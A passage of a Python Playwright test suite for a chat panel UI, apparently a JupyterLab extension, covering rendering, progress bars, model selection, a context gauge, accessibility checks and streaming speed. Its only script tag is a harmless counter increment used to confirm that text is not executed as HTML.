    """Point 7: the bundle is drawn by the same module; nothing to press that needs a kernel."""
    bundle = {"version": 1, "turn": {"prompt": "p", "mode": "prompt", "status": "done", "items": [
        {"kind": "thinking", "text": "hm"},
        {"kind": "tool", "name": "f", "status": "done", "result": "r", "arguments": "{}"},
        {"kind": "text", "text": "It is **five**."}]}}  # fmt: skip
    view.page.evaluate(
        "b => { const el = document.createElement('div'); el.id = 'saved'; document.querySelector('main').append(el);"
        " chat.mountSaved({bundle: b, el}); }",
        bundle,
    )
    view.frame()
    view.frame()

    saved = view.page.locator("#saved")
    assert saved.locator("strong").inner_text() == "five"
    assert saved.get_by_role("button", name="Stop").count() == 0
    assert saved.locator("textarea:visible").count() == 0
    view.page.evaluate("() => document.getElementById('saved').remove()")  # the page is the next test's, too


def test_without_the_renderer_text_is_text(chromium: Any) -> None:
    """Point 6: no renderer, no HTML: the text as it is."""
    view = View(chromium, view={"n": 0, "turns": [], "bar": {}}, render=False)
    view.answer("**bold** <script>ran++</script>")

    assert "**bold** <script>ran++</script>" in view.text
    assert view.page.evaluate("() => window.ran") == 0
    view.close()


# ---------------------------------------------------------------- what one can do


def test_how_far_a_tool_is(view: View) -> None:
    """Point 5: a bar with its value as text and for a screen reader; open-ended without a total; gone at the end."""
    view.say({"kind": "start", "turn": turn()}, item("a", "tool", name="train", status="running", progress=[3, 12]))
    bar = view.page.get_by_role("progressbar", name="progress of train")
    assert (bar.get_attribute("aria-valuenow"), bar.get_attribute("aria-valuemax")) == ("3", "12")
    assert bar.inner_text() == "3 of 12 (25 %)"
    width = view.page.evaluate("() => [...document.querySelectorAll('.kit-prog, .kit-prog i')].map(e => e.offsetWidth)")
    assert 0.2 < width[1] / width[0] < 0.3
    view.say(item("a", "tool", name="train", status="running", progress=[1500.5, None]))
    assert bar.inner_text() == "1,500.5"
    assert bar.get_attribute("aria-valuenow") is None

    view.say(item("a", "tool", name="train", status="done", result="ok", progress=None, done=True))
    assert bar.count() == 0


def test_what_is_waited_for_is_said(view: View) -> None:
    """Issue 5: the weights that load are named while nothing has come; later they are not."""
    view.say({"kind": "start", "turn": turn(waiting="starting the local model smollm2 (98 MB)")})
    assert "starting the local model smollm2 (98 MB) …" in view.text
    assert "smollm2" in view.page.locator("[aria-live=polite]").inner_text()

    view.say({"kind": "state", "head": turn(waiting="")})
    assert "starting the local model" not in view.page.locator(".kit-log").inner_text()


def test_the_panel_picks_any_model(chromium: Any) -> None:
    """Point 8: known models by a list, any other by typing its name, all by keyboard; a refusal is shown."""
    bar = {"model": "a/b", "models": ["a/b", "local/small"], "session": "main", "sessions": ["main"]}
    view = View(chromium, view={"n": 0, "turns": [], "bar": bar, "panel": True})
    pick = view.page.get_by_label("model", exact=True)
    assert pick.locator("option").all_inner_texts() == ["a/b", "local/small", "another model…"]
    pick.select_option("local/small")
    pick.select_option("+")
    view.page.keyboard.type("new/one")
    view.page.keyboard.press("Enter")
    pick.select_option("+")
    view.page.keyboard.type("never")
    view.page.keyboard.press("Escape")

    assert [m["name"] for m in view.sent if m.get("what") == "model"] == ["local/small", "new/one"]
    assert pick.is_visible()
    view.say({"kind": "state", "bar": {"note": "unknown provider 'new'"}})
    assert "unknown provider 'new'" in view.text
    view.say({"kind": "state", "bar": {"model": "new/one", "models": ["a/b"], "note": ""}})
    assert pick.input_value() == "new/one"
    assert "unknown provider" not in view.text
    view.close()


def test_the_panel_before_a_model_is_chosen(chromium: Any) -> None:
    """Point 8: without a model the list says so, and one can be picked."""
    bar = {"model": "", "models": ["local/small"]}
    view = View(chromium, view={"n": 0, "turns": [], "bar": bar, "panel": True})
    pick = view.page.get_by_label("model", exact=True)

    assert pick.locator("option:checked").inner_text() == "chosen at the first prompt"
    pick.select_option("local/small")
    assert [m["name"] for m in view.sent if m.get("what") == "model"] == ["local/small"]
    view.close()


def test_the_gauge_shows_the_window(chromium: Any) -> None:
    """Point 8: how full the model's window is, as a meter and in words; only words where the window is not known."""
    bar = {"gauge": {"tokens": 50_000, "window": 200_000}, "usage": {"input": 10, "output": 2}}
    view = View(chromium, view={"n": 0, "turns": [], "bar": bar, "panel": True})
    meter = view.page.get_by_role("meter", name="context used")
    assert meter.evaluate("m => m.value") == 0.25
    assert "context 25 % (50,000 of 200,000 tokens) · 10 in, 2 out" in view.text

    view.say({"kind": "state", "bar": {"gauge": {"tokens": 70, "window": None}}})
    assert meter.count() == 0
    assert "context 70 tokens" in view.text
    view.close()


def test_start_over_where_it_can_be(view: View) -> None:
    """Point 5, retry: in the view of a cell's turn while it runs; not where nothing could begin it again."""
    over = view.page.get_by_role("button", name="Start over")
    view.say({"kind": "start", "turn": turn()}, {"kind": "state", "bar": {"retry": False}})
    assert over.count() == 0
    view.say({"kind": "state", "bar": {"retry": True}})
    over.click()
    assert [m for m in view.sent if m["kind"] == "fork"] == [{"kind": "fork", "turn": "t1", "do": "retry"}]

    view.say(ended())
    assert over.count() == 0


def test_code_becomes_a_cell_or_is_copied(view: View) -> None:
    """Point 5, insert below: by the page's host; else by the kernel while a cell waits; else by copy, with a word."""
    code = "```python\nx = 1\n```\n\nand\n\n"
    view.say({"kind": "start", "turn": turn()}, {"kind": "state", "bar": {"attached": True}}, item("a"))
    view.say(grown("a", 0, code))
    insert = view.page.get_by_role("button", name="Insert code as a cell below")
    insert.dispatch_event("click")
    assert [m for m in view.sent if m.get("what") == "insert"] == [{"kind": "ask", "what": "insert", "text": "x = 1"}]
    assert insert.is_disabled()
    assert "below at the end" in insert.inner_text()

    view.say({"kind": "state", "bar": {"attached": False}}, item("b"))
    view.say(grown("b", 0, code))
    insert.last.dispatch_event("click")
    view.page.wait_for_function("() => document.querySelector('.kit-note:not([hidden])')")
    assert "paste it into a new cell" in view.text
    assert len([m for m in view.sent if m.get("what") == "insert"]) == 1

    view.page.evaluate("() => { __kit__.host = {insertCell: c => { window.got = c; }}; }")
    insert.last.dispatch_event("click")
    assert view.page.evaluate("() => { delete __kit__.host; return got; }") == "x = 1"


# ---------------------------------------------------------------- accessibility


@pytest.mark.parametrize("theme", ["light", "dark", "high"])
def test_axe_finds_nothing(chromium: Any, theme: str) -> None:
    """U114, U116: names and contrast in light, dark and high contrast; live region for start and end only."""
    if not AXE.exists():
        pytest.skip("axe-core is not installed (npm ci in labextension)")
    css = {"light": "", "dark": DARK, "high": HIGH}[theme]
    body = "" if theme == "light" else 'data-jp-theme-light="false"'
    queue = {"steering": ["x"], "follow_up": ["y"], "returned": ["z"]}
    bar = {"model": "a/b", "models": ["a/b", "a/c"], "session": "main", "queue": queue}
    bar["tasks"] = [{"text": "one", "status": "done"}]
    bar |= {"gauge": {"tokens": 900, "window": 1000}, "note": "unknown provider 'x'"}
    view = View(chromium, view={"n": 0, "turns": [], "bar": bar, "panel": True}, css=css, body=body)
    code = "```python\n# c\nimport x\nx = 'a' + f(1)\n```"
    view.answer(f"# H\n\ntext [link](https://a.test) `code`\n\n{code}\n\n| a |\n|---|\n| 1 |\n\n$x$\n")
    _ask(view)
    busy = item("p", "tool", turn="w", name="train", status="running", progress=[3, 10])
    view.say({"kind": "start", "turn": turn("w", waiting="starting the local model")}, busy)
    view.say(item("o", "tool", turn="w", name="look", status="running", progress=[3, None]))
    chips = [{"mark": "df", "size": "3", "preview": "x"}]
    failed = turn("e", status="error", error={"message": "it broke"}, note="a small model", chips=chips)
    view.say({"kind": "start", "turn": failed})
    view.page.evaluate(AXE.read_text())
    found = view.page.evaluate("async () => (await axe.run(document, {resultTypes: ['violations']})).violations")

    grave = [v for v in found if v["impact"] in ("serious", "critical")]
    assert [(v["id"], [node["html"][:120] for node in v["nodes"]]) for v in grave] == []
    assert view.page.locator("[aria-live=polite], [aria-live=assertive]").count() == 1
    BUILD.mkdir(parents=True, exist_ok=True)
    view.page.screenshot(path=str(BUILD / f"panel-{theme}.png"), full_page=True)
    view.close()


# ---------------------------------------------------------------- speed


def test_200_kb_in_view_at_200_deltas_a_second(view: View) -> None:
    """Speed: drawing stays smooth with 200 kB of Markdown in view; generous bounds for a shared machine."""
    para = "Some **bold** words and `code` in a paragraph that is about a hundred characters long, really so.\n\n"
    view.answer(para * 2000, done=False)
    first = view.page.evaluate("() => document.querySelector('.kit-text') && say && [...fns].length")
    assert first == 1
    result = view.page.evaluate(
        """async ([start, para, n, id]) => {
          let at = start, frames = 0, worst = 0, last = performance.now(), stop = false;
          const tick = t => {
            frames++; worst = Math.max(worst, t - last); last = t; if (!stop) requestAnimationFrame(tick); };
          requestAnimationFrame(tick);
          const begin = performance.now();
          for (let i = 0; i < 400; i++) {
            const piece = para.slice((i * 20) % para.length, (i * 20) % para.length + 20);
            say({n: ++n, m: [{kind: 'delta', d: [[id, 'text', at, piece]]}]}); at += piece.length;
            await new Promise(ok => setTimeout(ok, 5));
          }
          stop = true;
          const seconds = (performance.now() - begin) / 1000;
          const all = [...document.querySelectorAll('.kit-item *')];
          return {fps: frames / seconds, worst, asked: sent.filter(m => m.n === -1).length,
                  paragraphs: document.querySelectorAll('.kit-item p').length,
                  watched: all.filter(e => getComputedStyle(e).contentVisibility === 'auto').length};
        }""",
        [len(para) * 2000, para, view.n, f"i{view.n - 2}"],
    )

    print(json.dumps(result))
    assert result["asked"] == 0
    assert result["paragraphs"] > 2000
    assert 20 < result["watched"] < 100  # each of these costs the browser something in each frame
    assert result["fps"] > 15
    assert result["worst"] < 1500


def test_typing_in_a_long_panel_stays_quick(chromium: Any) -> None:
    """U5: 300 turns in the panel, an answer streaming: keys are painted soon (bound for a shared machine)."""
    para = "Some **bold** words and `code`.\n\n" * 8
    answer = {"kind": "text", "text": para, "done": True}
    turns = [turn(f"k{n}", status="done", items=[{"id": f"k{n}.0", **answer}]) for n in range(300)]
    view = View(chromium, view={"n": 0, "turns": turns, "bar": {}, "panel": True})
    view.say({"kind": "start", "turn": turn("live")}, item("a", turn="live"))
    view.page.get_by_label("Steer the running turn").focus()
    view.page.evaluate(
        """n => { window.took = []; let at = 0; const id = setInterval(() => {
             say({n: ++window.frameNo, m: [{kind: 'delta', d: [['a', 'text', at, 'more words ']]}]}); at += 11; }, 33);
           window.frameNo = n; document.querySelector('textarea:not([rows="6"])').addEventListener('keydown', () => {
             const t = performance.now();
             requestAnimationFrame(() => setTimeout(() => took.push(performance.now() - t))); });
           window.halt = () => clearInterval(id); }""",
        view.n,
    )
    view.page.keyboard.type("a hundred characters or nearly so, typed by a quick hand", delay=25)
    took = sorted(view.page.evaluate("() => { halt(); return took; }"))

    print(took[len(took) // 2], took[int(len(took) * 0.95)])
    assert len(took) > 40
    assert took[len(took) // 2] < 150
    view.close()
